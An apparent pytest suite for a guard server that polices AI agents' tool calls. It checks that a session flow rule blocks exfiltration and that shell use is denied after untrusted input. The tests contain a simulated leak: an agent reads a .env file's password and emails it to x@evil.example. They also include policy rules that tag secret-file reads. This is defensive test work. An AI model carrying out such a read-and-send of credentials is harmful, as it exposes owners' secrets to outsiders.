"""The session endpoints of the server (``/v1/sessions/outcome``, ``/v1/sessions/input``)
on the real app over a real guard and store (SQLite and PostgreSQL): an agent's
reported outcome (fingerprints computed client-side) makes the server's flow rule
refuse the exfiltration; tenants are apart; bad input is refused naming the field;
auth is the check's."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from prometheus_client.parser import text_string_to_metric_families

from interlock.session.fingerprints import of_data
from interlock.session.packing import pack_text
from server.harness import Api, open_api

POLICY = """\
version: 1
default: deny
labels:
  - id: secrets-read
    attach: [secret]
    name: read_file
    params:
      path: {glob: ["**/.env"]}
rules:
  - id: reads
    decision: allow
    reason: reading is fine
    name: read_file
  - id: mail
    decision: allow
    reason: mail is fine
    name: send_email
  - id: shell
    decision: allow
    reason: shell is fine
    name: shell
  - id: no-exfil
    decision: deny
    reason: data returned by a secret read may not leave
    name: send_email
    session:
      flows_from:
        labels: [secret]
  - id: no-shell-after-untrusted
    decision: deny
    reason: no shell after untrusted input
    name: shell
    session:
      labels: [untrusted]
"""
PLAIN_POLICY = """\
version: 1
default: deny
rules:
  - id: reads
    decision: allow
    reason: reading is fine
    name: read_file
"""
SECRET_FILE = "DB_PASSWORD=hunter2-but-longer-7f3a9c\n"


async def _open(store_url: str, tmp_path: Path, policy: str) -> AsyncIterator[Api]:
    path = tmp_path / "interlock.yaml"
    path.write_text(policy)
    async for opened in open_api(store_url, path):
        yield opened


@pytest.fixture
async def api(store_url: str, tmp_path: Path) -> AsyncIterator[Api]:
    async for opened in _open(store_url, tmp_path, POLICY):
        yield opened


async def _check(api: Api, who: str, session: str, name: str, **arguments: Any) -> dict[str, Any]:
    return await api.check(who, name=name, arguments=arguments, context={"session_id": session})


async def _outcome(api: Api, who: str, **body: Any) -> Any:
    return await api.client.post("/v1/sessions/outcome", json=body, headers=api.h(who))


async def test_a_reported_outcome_makes_the_flow_rule_refuse(api: Api) -> None:
    read = await _check(api, "agent", "s-1", "read_file", path="/app/.env")
    assert read["verdict"] == "allow"
    leak = {"to": "x@evil.example", "body": "pw hunter2-but-longer-7f3a9c"}
    # before the outcome: the step did not run as far as the server knows
    assert (await _check(api, "agent", "s-1", "send_email", **leak))["verdict"] == "allow"
    answer = await _outcome(
        api,
        "agent",
        session_id="s-1",
        decision_id=read["decision_id"],
        executed=True,
        fingerprints=pack_text(of_data(SECRET_FILE)),
    )
    assert answer.status_code == 200 and answer.json() == {"recorded": True, "seq": None}
    refused = await _check(api, "agent", "s-1", "send_email", **leak)
    assert refused["verdict"] == "deny" and "no-exfil" in refused["rule_ids"]
    benign = {"to": "x@evil.example", "body": "see you tomorrow"}
    assert (await _check(api, "agent", "s-1", "send_email", **benign))["verdict"] == "allow"


async def test_an_outcome_of_another_tenant_or_unknown_decision_is_not_recorded(api: Api) -> None:
    read = await _check(api, "agent", "s-1", "read_file", path="/app/.env")
    body = {
        "session_id": "s-1",
        "decision_id": read["decision_id"],
        "executed": True,
        "fingerprints": pack_text(of_data(SECRET_FILE)),
        "labels": ["pii"],
    }
    other = await _outcome(api, "other_agent", **body)  # globex: acme's session is not its
    assert other.status_code == 200 and other.json()["recorded"] is False
    unknown = await _outcome(api, "agent", **{**body, "decision_id": "dec_nothing"})
    assert unknown.json()["recorded"] is False
    history = api.guard.sessions
    assert history is not None
    view = history.view("acme", "s-1")
    assert view.steps[-1].executed is None and "pii" not in view.labels


async def test_an_untrusted_input_labels_the_session(api: Api) -> None:
    assert (await _check(api, "agent", "s-2", "shell", command="ls"))["verdict"] == "allow"
    answer = await api.client.post(
        "/v1/sessions/input",
        json={
            "session_id": "s-2",
            "fingerprints": pack_text(of_data("a mail from a stranger")),
            "trusted": False,
            "labels": ["untrusted"],
        },
        headers=api.h("agent"),
    )
    assert answer.status_code == 200 and answer.json() == {"recorded": True, "seq": 2}
    refused = await _check(api, "agent", "s-2", "shell", command="ls")
    assert refused["verdict"] == "deny" and "no-shell-after-untrusted" in refused["rule_ids"]
    # the other tenant's session of the same name is untouched
    assert (await _check(api, "other_agent", "s-2", "shell", command="ls"))["verdict"] == "allow"


@pytest.mark.parametrize(
    ("tool", "labels"),
    [
        # the policy's label rule read from the call the result answers
        ({"name": "read_file", "arguments": {"path": "/srv/app/.env"}}, {"secret", "untrusted"}),
        # the JSON text a model wrote, as a proxy holds it
        ({"name": "read_file", "arguments": '{"path": "/srv/app/.env"}'}, {"secret", "untrusted"}),
        # a benign look-alike: another file of the same tool
        ({"name": "read_file", "arguments": {"path": "/srv/app/notes.txt"}}, {"untrusted"}),
        # arguments that cannot be read: every label the tool's label rules could attach
        ({"name": "read_file", "arguments": "not json"}, {"secret", "untrusted"}),
        ({"name": "read_file", "arguments": ["/srv/app/.env"]}, {"secret", "untrusted"}),
        ({"name": "read_file"}, {"secret", "untrusted"}),
        # a tool no label rule names
        ({"name": "send_email", "arguments": "not json"}, {"untrusted"}),
    ],
)
async def test_an_untrusted_result_gets_the_labels_the_policy_gives_its_call(
    api: Api, tool: dict[str, Any], labels: set[str]
) -> None:
    """A result whose call this server did not decide (a proxy replica's, a restarted
    agent's): ``tool`` names the call, and the server's own policy labels it — never
    less than the call would have been labelled."""
    answer = await api.client.post(
        "/v1/sessions/input",
        json={
            "session_id": "s-tool",
            "fingerprints": pack_text(of_data(SECRET_FILE)),
            "trusted": False,
            "labels": ["untrusted"],
            "tool": tool,
        },
        headers=api.h("agent"),
    )
    assert answer.status_code == 200 and answer.json()["recorded"] is True
    history = api.guard.sessions
    assert history is not None
    view = history.view("acme", "s-tool")
    assert view.labels == labels
    assert view.steps[-1].labels == labels


async def test_a_trusted_input_takes_no_labels_from_a_tool(api: Api) -> None:
    """``tool`` describes a result (untrusted): the user's own words are not labelled
    by it."""
    answer = await api.client.post(
        "/v1/sessions/input",
        json={
            "session_id": "s-trusted",
            "fingerprints": pack_text(of_data("mail carol the notes")),
            "trusted": True,
            "tool": {"name": "read_file", "arguments": {"path": "/srv/app/.env"}},
        },
        headers=api.h("agent"),
    )
    assert answer.status_code == 200
    history = api.guard.sessions
    assert history is not None
    assert history.view("acme", "s-trusted").labels == frozenset()


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"fingerprints": "not base64!"}, "fingerprints"),
        ({"fingerprints": "AAAA"}, "fingerprints"),  # 3 bytes: not 8 a fingerprint
        ({"fingerprints": "A" * 50_000}, "fingerprints"),  # more than 4096
        ({"labels": ["no spaces allowed"]}, "labels"),
        ({"labels": ["x"] * 33}, "labels"),
        ({"session_id": ""}, "session_id"),
        ({"session_id": "a\nb"}, "session_id"),
        ({"executed": "perhaps"}, "executed"),
        ({"extra": 1}, "extra"),
    ],
)
async def test_bad_outcomes_are_refused_naming_the_field(
    api: Api, body: dict[str, Any], field: str
) -> None:
    good = {"session_id": "s", "decision_id": "d", "executed": True}
    answer = await _outcome(api, "agent", **{**good, **body})
    assert answer.status_code == 422, answer.text
    assert field in answer.json()["error"]["field"]


@pytest.mark.parametrize(
    ("tool", "field"),
    [
        ({"name": ""}, "tool.name"),
        ({"name": "x" * 201}, "tool.name"),
        ({"arguments": {}}, "tool.name"),
        ({"name": "read_file", "extra": 1}, "tool.extra"),
        ("read_file", "tool"),
    ],
)
async def test_a_bad_tool_of_an_input_is_refused_naming_the_field(
    api: Api, tool: object, field: str
) -> None:
    answer = await api.client.post(
        "/v1/sessions/input",
        json={"session_id": "s", "trusted": False, "tool": tool},
        headers=api.h("agent"),
    )
    assert answer.status_code == 422, answer.text
    assert answer.json()["error"]["field"].startswith(field)


async def test_auth_is_the_checks(api: Api) -> None:
    body = {"session_id": "s", "decision_id": "d", "executed": True}
    assert (await api.client.post("/v1/sessions/outcome", json=body)).status_code == 401
    assert (await _outcome(api, "approver", **body)).status_code == 403
    forbidden = await api.client.post(
        "/v1/sessions/input", json={"session_id": "s"}, headers=api.h("approver")
    )
    assert forbidden.status_code == 403


async def test_a_policy_without_sessions_records_nothing(store_url: str, tmp_path: Path) -> None:
    async for api in _open(store_url, tmp_path, PLAIN_POLICY):
        read = await _check(api, "agent", "s", "read_file", path="/app/.env")
        answer = await _outcome(
            api, "agent", session_id="s", decision_id=read["decision_id"], executed=True
        )
        assert answer.json() == {"recorded": False, "seq": None}


async def test_the_endpoints_are_in_the_openapi_document(api: Api) -> None:
    paths = (await api.client.get("/v1/openapi.json")).json()["paths"]
    for path in ("/v1/sessions/outcome", "/v1/sessions/input"):
        assert "post" in paths[path]
        assert {"200", "401", "403", "422", "503"} <= set(paths[path]["post"]["responses"])


async def _kept(api: Api) -> dict[str, float]:
    text = (await api.client.get("/metrics")).text
    return {
        sample.name: sample.value
        for family in text_string_to_metric_families(text)
        for sample in family.samples
        if sample.name.startswith("interlock_session_")
    }


async def test_metrics_report_what_the_session_history_keeps(api: Api) -> None:
    """``/metrics`` reads the SQL history's kept views and their fingerprints at scrape
    time: a session's view appears with its check, its result's fingerprints with the
    reported outcome."""
    read = await _check(api, "agent", "s-metrics", "read_file", path="/app/.env")
    before = await _kept(api)
    assert before["interlock_session_views_kept"] >= 1
    data = of_data(SECRET_FILE)
    answer = await _outcome(
        api,
        "agent",
        session_id="s-metrics",
        decision_id=read["decision_id"],
        executed=True,
        fingerprints=pack_text(data),
    )
    assert answer.status_code == 200
    await _check(api, "agent", "s-metrics", "send_email", to="x@corp.example", body="hi")
    after = await _kept(api)
    grown = (
        after["interlock_session_fingerprints_kept"] - before["interlock_session_fingerprints_kept"]
    )
    assert grown >= len(data)  # the step's set (and the index's share)


async def test_metrics_say_nothing_of_sessions_when_no_policy_reads_them(
    store_url: str, tmp_path: Path
) -> None:
    async for api in _open(store_url, tmp_path, PLAIN_POLICY):
        await api.check("agent", name="read_file", arguments={"path": "/x"})
        assert await _kept(api) == {}
